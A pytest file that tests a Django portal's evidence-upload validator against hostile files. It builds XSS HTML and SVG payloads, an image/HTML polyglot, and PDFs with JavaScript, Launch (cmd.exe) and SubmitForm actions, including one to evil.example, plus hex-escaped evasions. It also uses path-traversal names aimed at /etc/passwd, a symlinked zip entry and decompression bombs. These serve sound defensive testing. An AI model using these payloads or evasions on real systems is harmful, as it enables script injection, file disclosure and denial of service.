"""Upload attacks, through the real upload page (multipart POSTs on the Django test client).

Every refusal shows the GOV.UK error summary with a message saying why, and leaves the evidence
table, the files in storage and the audit trail exactly as they were. Files that are accepted
(a double extension whose content matches its last extension, an image carrying HTML) are only
ever served as attachments, with nosniff and a sandboxing Content-Security-Policy.
"""

import gzip
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse

from accreditation.errors import Refusal
from accreditation.tests.helpers import login
from portfolios import uploads
from portfolios.models import EvidenceItem
from portfolios.tests.factories import office_bytes, pdf_bytes, png_bytes
from schools.tests.factories import LeadFactory

from .helpers import audit_count, stored_files, upload_data

pytestmark = pytest.mark.django_db

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
POLYGLOT_PNG = png_bytes() + b"<html><script>fetch('/accounts/email/')</script></html>"


def pdf_with(action: bytes) -> bytes:
    return pdf_bytes().replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction " + action)


def png_header(width, height):
    """A few bytes of PNG that declare enormous dimensions: a decompression bomb."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    data = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(ihdr)) + chunk + struct.pack(">I", zlib.crc32(chunk))
    idat = zlib.compress(b"\x00" * 64)
    return data + struct.pack(">I", len(idat)) + b"IDAT" + idat + struct.pack(">I", zlib.crc32(b"IDAT" + idat))


@pytest.fixture
def lead(client):
    membership = LeadFactory(school__name="Hillside Primary")
    login(client, membership.user)
    return membership


def upload_url(lead):
    return reverse("portfolios:evidence_upload", args=[lead.school.pk])


def snapshot(school):
    return (
        list(EvidenceItem.objects.filter(school=school).values_list("pk", "original_name", "file")),
        stored_files(),
        audit_count(),
    )


REFUSED = [
    # names
    pytest.param(".htaccess", pdf_bytes(), "contains folder names or dots that are not allowed", id="dot-file"),
    # double extensions: the last one decides, and must be on the allowlist
    pytest.param(
        "report.pdf.exe", EXE, "must be a DOCX, JPG, MP3, MP4, ODT, PDF, PNG, PPTX or XLSX file", id="pdf.exe"
    ),
    pytest.param("photo.png.html", HTML, "must be a DOCX", id="png.html"),
    # content that does not match the extension
    pytest.param("invoice.pdf", EXE, "is a program, not a PDF", id="exe-as-pdf"),
    pytest.param("photo.pdf", png_bytes(), "The content of “photo.pdf” is not a PDF", id="png-as-pdf"),
    pytest.param("page.pdf", HTML, "The content of “page.pdf” is not a PDF", id="html-as-pdf"),
    pytest.param("page.png", HTML, "The content of “page.png” is not a PNG image", id="html-as-png"),
    pytest.param("notes.docx", b"Just some text\n" * 20, "is not a Word document", id="text-as-docx"),
    # SVG: not on the allowlist, under its own name or another
    pytest.param("drawing.svg", SVG, "must be a DOCX", id="svg"),
    pytest.param("drawing.png", SVG, "The content of “drawing.png” is not a PNG image", id="svg-as-png"),
    # PDFs with script actions
    pytest.param("policy.pdf", pdf_with(b"<</S/JavaScript/JS(app.alert(1))>>"), "contains JavaScript", id="pdf-js"),
    pytest.param(
        "policy.pdf", pdf_with(b"<</S/J#61vaScript/J#53(app.alert(1))>>"), "contains JavaScript", id="pdf-js-hex"
    ),
    pytest.param("policy.pdf", pdf_with(b"<</S /JS (app.alert(1))>>"), "contains JavaScript", id="pdf-js-short"),
    # macro documents
    pytest.param("minutes.docm", office_bytes(), "is a macro-enabled or old-style Office file", id="docm"),
    pytest.param("tracker.xlsm", office_bytes("xl/workbook.xml"), "macro-enabled", id="xlsm"),
    pytest.param(
        "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "macro-enabled or old-style", id="doc"
    ),
    pytest.param(
        "letter.docx", office_bytes(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "contains macros", id="vba"
    ),
    pytest.param(
        "letter.docx",
        office_bytes(content_types=b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        "contains macros",
        id="macro-content-type",
    ),
    # archives, by name and by content
    pytest.param("evidence.zip", office_bytes(), "is an archive. Upload the files inside it one by one", id="zip"),
    pytest.param("photos.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 100, "is an archive", id="7z"),
    pytest.param("report.pdf", gzip.compress(pdf_bytes()), "is an archive, not a PDF", id="gzip-as-pdf"),
    pytest.param("notes.docx", gzip.compress(b"x" * 1000), "is an archive, not a Word document", id="gzip-as-docx"),
    # empty files and bombs
    pytest.param("empty.pdf", b"", "The submitted file is empty", id="empty"),
    pytest.param("huge.png", png_header(100_000, 100_000), "too large an image", id="image-bomb"),
    pytest.param(
        "bomb.docx",
        office_bytes(extra={"word/media/pad.xml": b"\x00" * (5 * 1024 * 1024)}),
        "unusual structure",
        id="zip-bomb",
    ),
]


@pytest.mark.parametrize("name, data, message", REFUSED)
def test_refused_with_a_clear_message_and_nothing_stored(client, lead, name, data, message):
    before = snapshot(lead.school)
    response = client.post(upload_url(lead), upload_data([SimpleUploadedFile(name, data)]))
    page = response.content.decode()
    assert response.status_code == 200
    assert "govuk-error-summary" in page and "There is a problem" in page
    assert message in page
    assert snapshot(lead.school) == before


def test_a_refused_file_in_a_batch_refuses_the_batch(client, lead):
    before = snapshot(lead.school)
    files = [SimpleUploadedFile("good.pdf", pdf_bytes()), SimpleUploadedFile("bad.pdf", EXE)]
    response = client.post(upload_url(lead), upload_data(files))
    assert "is a program, not a PDF" in response.content.decode()
    assert snapshot(lead.school) == before


@override_settings(EVIDENCE_MAX_FILE_BYTES=1024)
def test_a_file_over_the_size_limit(client, lead):
    before = snapshot(lead.school)
    big = SimpleUploadedFile("big.pdf", pdf_bytes() + b"%" * 2048)
    response = client.post(upload_url(lead), upload_data([big]))
    assert "“big.pdf” must be smaller than 1 KB" in response.content.decode()
    assert snapshot(lead.school) == before


def test_too_many_files_in_one_request_gets_a_govuk_page(client, lead, settings):
    assert settings.DATA_UPLOAD_MAX_NUMBER_FILES == 20
    before = snapshot(lead.school)
    files = [SimpleUploadedFile(f"policy-{n}.pdf", pdf_bytes()) for n in range(21)]
    response = client.post(upload_url(lead), upload_data(files))
    page = response.content.decode()
    assert response.status_code == 400
    assert "govuk-error-summary" in page and "govuk-header" in page
    assert "You can upload up to 20 files at a time. Nothing has been uploaded." in page
    assert f'href="{upload_url(lead)}"' in page  # back to the upload page
    assert snapshot(lead.school) == before


def test_twenty_files_are_still_accepted(client, lead):
    files = [SimpleUploadedFile(f"policy-{n}.pdf", pdf_bytes(f"Policy {n}")) for n in range(20)]
    response = client.post(upload_url(lead), upload_data(files), follow=True)
    assert "20 files added to your evidence library" in response.content.decode()
    assert EvidenceItem.objects.filter(school=lead.school).count() == 20


@pytest.mark.parametrize(
    "raw, kept",
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\win.ini.pdf", "win.ini.pdf"),
        ("/var/www/shell.pdf", "shell.pdf"),
        ("tab\x01le.pdf", "table.pdf"),
        ("\x1b[31mred.pdf", "[31mred.pdf"),
        ("rtl\u202egnp.pdf", "rtlgnp.pdf"),
    ],
)
def test_path_parts_and_control_characters_never_reach_storage(client, lead, raw, kept):
    """Django's multipart parser drops path parts and unprintable characters before the portal
    sees the name; the stored object's name is the portal's own, never the person's."""
    before = stored_files()
    client.post(upload_url(lead), upload_data([SimpleUploadedFile(raw, pdf_bytes())]))
    item = EvidenceItem.objects.get(school=lead.school)
    assert item.original_name == kept
    assert item.file.name.startswith(f"evidence/{lead.school.pk}/") and kept not in item.file.name
    assert stored_files() - before == {item.file.name}


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd.pdf", "..\\win.ini.pdf", "a/b.pdf", "tab\x01le.pdf", "zero\u200bwidth.pdf", "nul\x00.pdf", ".."],
)
def test_names_that_reach_the_check_unsanitised_are_refused(name):
    """Another route to the check (a task, a script) gets no help from Django's parser."""
    with pytest.raises(Refusal) as caught:
        uploads.check_upload(_named(name, pdf_bytes()))
    assert caught.value.code == "name"


def _named(name, data):
    file = SimpleUploadedFile("placeholder.pdf", data)
    file._name = name  # UploadedFile keeps only the base name it is given: set the raw one underneath
    return file


def download(client, item):
    response = client.get(reverse("portfolios:evidence_download", args=[item.pk]))
    assert response.status_code == 200
    return response, b"".join(response.streaming_content)


def assert_never_inline(response):
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "default-src 'none'" in response["Content-Security-Policy"]


def test_a_double_extension_whose_content_matches_the_last_is_accepted_and_served_as_that(client, lead):
    """Decision: "photo.exe.png" holding a real PNG is a PNG. The last extension decides, the
    content must match it, and it is only ever served as image/png, as an attachment."""
    client.post(upload_url(lead), upload_data([SimpleUploadedFile("photo.exe.png", png_bytes())]))
    item = EvidenceItem.objects.get(school=lead.school)
    assert (item.original_name, item.content_type) == ("photo.exe.png", "image/png")
    assert not item.file.name.endswith(".exe.png")
    response, body = download(client, item)
    assert body == png_bytes()
    assert response["Content-Type"] == "image/png"
    assert 'filename="photo.exe.png"' in response["Content-Disposition"]
    assert_never_inline(response)


def test_an_image_html_polyglot_is_never_served_inline(client, lead):
    """A valid PNG with HTML after its end is a valid PNG; what keeps it harmless is how it is served."""
    client.post(upload_url(lead), upload_data([SimpleUploadedFile("pupil-voice.png", POLYGLOT_PNG)]))
    item = EvidenceItem.objects.get(school=lead.school)
    response, body = download(client, item)
    assert body == POLYGLOT_PNG
    assert response["Content-Type"] == "image/png"
    assert_never_inline(response)


def test_a_pdf_with_javascript_is_refused_by_the_view_but_one_mentioning_it_in_text_is_not(client, lead):
    response = client.post(
        upload_url(lead), upload_data([SimpleUploadedFile("policy.pdf", pdf_with(b"<</S/JavaScript/JS(x)>>"))])
    )
    assert "“policy.pdf” contains JavaScript, which could run when someone opens it." in response.content.decode()
    assert not EvidenceItem.objects.exists()
    lesson = SimpleUploadedFile("lesson.pdf", pdf_bytes("Year 9 learn JavaScript and JSON safely"))
    client.post(upload_url(lead), upload_data([lesson]))
    assert EvidenceItem.objects.get().original_name == "lesson.pdf"


class TestPdfScriptScanner:
    """The scan reads the chunks already read for hashing, so a marker may be split between two."""

    def scan(self, data):
        return uploads.check_upload(SimpleUploadedFile("policy.pdf", data))

    @pytest.mark.parametrize("split", range(1, 11))
    def test_a_marker_split_across_two_chunks(self, split):
        header = pdf_bytes()
        marker = b"/JavaScript"
        padding = b"%" + b"p" * (uploads.CHUNK - len(header) - split - 2) + b"\n"
        data = header + padding + marker + b" (app.alert(1))\n"
        assert data.index(marker) + split == uploads.CHUNK  # the first `split` bytes end the first chunk
        with pytest.raises(Refusal) as caught:
            self.scan(data)
        assert caught.value.code == "pdf_script"

    def test_an_escaped_marker_split_across_chunks(self):
        header = pdf_bytes()
        marker = b"/#4A#61#76#61#53#63#72#69#70#74"
        padding = b"%" + b"p" * (uploads.CHUNK - len(header) - 7 - 2) + b"\n"
        with pytest.raises(Refusal):
            self.scan(header + padding + marker + b" (x)\n")

    def test_a_marker_at_the_very_end(self):
        with pytest.raises(Refusal):
            self.scan(pdf_bytes() + b"<</JS")

    @pytest.mark.parametrize("name", [b"/JSON", b"/JBIG2Decode", b"/Javascripts", b"/AJS"])
    def test_names_that_only_look_alike_pass(self, name):
        header = pdf_bytes()
        padding = b"%" + b"p" * (uploads.CHUNK - len(header) - 2 - 2) + b"\n"
        checked = self.scan(header + padding + name + b" 1\n")
        assert checked.extension == "pdf"


# --- active PDF content and container links (issue 23)


def pdf_with_object_stream(dictionary: bytes) -> bytes:
    """A PDF whose action dictionary hides in a Flate-compressed object stream."""
    packed = zlib.compress(b"5 0 " + dictionary)
    return pdf_bytes().replace(
        b"trailer",
        b"6 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(packed)).encode()
        + b">>stream\n"
        + packed
        + b"\nendstream endobj\ntrailer",
    )


ACTIVE_PDFS = [
    pytest.param(pdf_with(b"<</S/Launch/F(cmd.exe)>>"), "(/Launch)", id="launch"),
    pytest.param(pdf_with(b"<</S/L#61unch/F(cmd.exe)>>"), "(/Launch)", id="launch-hex"),
    pytest.param(
        pdf_bytes().replace(b"/Type/Catalog", b"/Type/Catalog/Names<</EmbeddedFiles 7 0 R>>"),
        "files embedded inside it",
        id="embedded-files",
    ),
    pytest.param(pdf_with(b"<</Type/Filespec/EF<</F 8 0 R>>/Type/EmbeddedFile>>"), "files embedded", id="embedded"),
    pytest.param(pdf_with(b"<</Type/Annot/Subtype/RichMedia>>"), "(/RichMedia)", id="richmedia"),
    pytest.param(pdf_with(b"<</S/SubmitForm/F(https://evil.example)>>"), "(/SubmitForm)", id="submitform"),
    pytest.param(pdf_with(b"<</S/Sub#6dit#46orm>>"), "(/SubmitForm)", id="submitform-hex"),
    pytest.param(
        pdf_bytes().replace(b"/Type/Page/", b"/Type/Page/AA<</O<</S/GoTo>>>>/"), "(/AA)", id="additional-actions"
    ),
    pytest.param(pdf_with_object_stream(b"<</S/Launch/F(cmd.exe)>>"), "(/Launch)", id="launch-in-object-stream"),
    pytest.param(
        pdf_with_object_stream(b"<</S/JavaScript/JS(app.alert(1))>>"), "contains JavaScript", id="js-in-object-stream"
    ),
]


@pytest.mark.parametrize("data, message", ACTIVE_PDFS)
def test_pdfs_with_active_content_are_refused_whatever_the_encoding(client, lead, data, message):
    before = snapshot(lead.school)
    response = client.post(upload_url(lead), upload_data([SimpleUploadedFile("policy.pdf", data)]))
    page = response.content.decode()
    assert response.status_code == 200 and "There is a problem" in page
    assert message in page and "which could run when someone opens it" in page
    assert snapshot(lead.school)[:2] == before[:2]


def test_a_compressed_stream_of_ordinary_text_is_accepted():
    packed = zlib.compress(b"BT /F1 12 Tf (We talk about launch dates and rich media) Tj ET")
    data = pdf_bytes().replace(
        b"trailer", b"6 0 obj<</Filter/FlateDecode/Length 10>>stream\n" + packed + b"\nendstream endobj\ntrailer"
    )
    assert uploads.check_upload(SimpleUploadedFile("lesson.pdf", data)).extension == "pdf"


def test_office_files_with_symbolic_link_entries_are_refused(client, lead):
    import io
    import zipfile

    buffer = io.BytesIO(office_bytes())
    with zipfile.ZipFile(buffer, "a") as archive:
        link = zipfile.ZipInfo("word/media/image1.png")
        link.create_system = 3
        link.external_attr = (0o120777 << 16) | 0x20
        archive.writestr(link, "/etc/passwd")
    before = snapshot(lead.school)
    response = client.post(upload_url(lead), upload_data([SimpleUploadedFile("policy.docx", buffer.getvalue())]))
    assert "contains a link to a file outside it (a symbolic link)" in response.content.decode()
    assert snapshot(lead.school)[:2] == before[:2]
